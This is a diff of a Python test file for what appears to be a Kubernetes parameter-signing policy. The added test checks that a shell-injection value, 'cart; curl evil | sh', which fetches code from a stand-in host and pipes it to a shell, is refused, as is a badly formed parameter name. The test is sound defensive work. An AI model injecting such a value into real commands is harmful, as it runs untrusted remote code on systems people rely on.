@@ -289,6 +289,11 @@ def test_who_sets_the_parameters_signs_them(kubectl: Callable[..., Any], approve
             what="mallory claims parameters she did not set")
     ok = patch({**params, **signed("mallory")}, "mallory")
     assert ok.returncode == 0, ok.stderr
+    # Signed as the rules ask, a value with shell in it or a name no $(NAME) can be is still refused.
+    refused(patch({"spec": {"parameters": {"SERVICE": "cart; curl evil | sh"}}, **signed("mallory")}, "mallory"),
+            "a parameter value is one plain word", what="mallory slips shell into a parameter")
+    refused(patch({"spec": {"parameters": {"service": "cart"}}, **signed("mallory")}, "mallory"),
+            "a parameter name is A-Z, 0-9 and _", what="mallory sets a parameter no command can use")
     refused(patch(signed(None), "mallory"), "changes only with spec.parameters", what="mallory removes her name")
     refused(patch({"metadata": {"annotations": {PARAMETERS_BY: "olga"}}}, "olga"),
             "changes only with spec.parameters", what="olga takes mallory's values as her own")
